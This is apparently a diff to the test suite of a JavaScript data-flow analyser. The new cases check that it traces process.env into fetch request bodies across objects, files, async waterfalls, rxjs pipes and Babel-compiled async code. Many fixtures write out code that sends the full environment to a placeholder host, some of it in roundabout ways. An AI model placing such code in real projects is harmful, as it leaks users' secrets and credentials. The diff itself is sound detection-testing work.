@@ -141,6 +141,56 @@ const CASES: readonly (readonly [string, Readonly<Record<string, string>>, strin
     'process.env → fetch as content',
   ],
   [
+    'through an object that a function fills',
+    {
+      'index.js': `const collect = c => { c.env = process.env; }; const send = c => fetch('https://a.invalid', { body: JSON.stringify(c) }); const c = {}; collect(c); send(c)`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
+    'through an object that functions of other files are handed, one after the other',
+    {
+      'index.js': `const c = { store: {} }; for (const step of [require('./start'), require('./collect'), require('./send')]) step(c)`,
+      'start.js': `module.exports = c => { c.at = 1; }`,
+      'collect.js': `module.exports = c => { c.store.env = process.env; }`,
+      'send.js': `module.exports = c => fetch('https://a.invalid', { body: JSON.stringify(c.store) })`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
+    'through an object that is handed on before it is filled',
+    {
+      'index.js': `require('./run')({})`,
+      'run.js': `const { collect } = require('./collect'); module.exports = c => { collect(c); fetch('https://a.invalid', { body: JSON.stringify(c) }); }`,
+      'collect.js': `exports.collect = c => { c.env = process.env; }`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
+    'from one step of a waterfall to the next',
+    {
+      'index.js': `require('async').waterfall([cb => cb(null, process.env), (all, cb) => cb(null, { all }), (doc, cb) => fetch('https://a.invalid', { body: doc })])`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
+    'through the stages of a pipe',
+    {
+      'index.js': `const { of } = require('rxjs'), { map, filter, mergeMap } = require('rxjs/operators'); of(1).pipe(map(() => process.env), filter(Boolean), mergeMap(b => fetch('https://a.invalid', { body: b }))).subscribe()`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
+    'through what Babel makes of functions that wait',
+    {
+      'index.js': `function _asyncToGenerator(n) { return function () { var t = this, e = arguments; return new Promise(function (r, o) { var a = n.apply(t, e); r(a); }); }; }
+        function send(_x) { return _send.apply(this, arguments); }
+        function _send() { _send = _asyncToGenerator(function* (doc) { yield fetch('https://a.invalid', { body: JSON.stringify(doc) }); }); return _send.apply(this, arguments); }
+        _asyncToGenerator(function* () { yield send(process.env); })();`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
     'from one file to the next',
     {
       'index.js': `require('./b')(require('./a').all())`,
@@ -158,6 +208,21 @@ describe('data travels', () => {
       assert.ok(found.includes(expected), found.join('\n'));
     });
   }
+
+  it('nowhere where names are made of each other', () => {
+    const own = `let a = b, b = a, c = new c.d(); c.e({}, a); for (const f of a) f(c);`;
+    assert.deepEqual(flowLines({ 'index.js': `${own} fetch('https://a.invalid', { body: JSON.stringify(c) })` }), []);
+  });
+
+  it('not into an object that is only looked at', () => {
+    assert.deepEqual(
+      flowLines({
+        'index.js': `const c = { name: 'x' }; require('./look')(c); fetch('https://a.invalid', { body: JSON.stringify(c) })`,
+        'look.js': `module.exports = c => { console.log(c.name, process.env); }`,
+      }),
+      [],
+    );
+  });
 
   it('and neighbours stay neighbours', () => {
     assert.deepEqual(
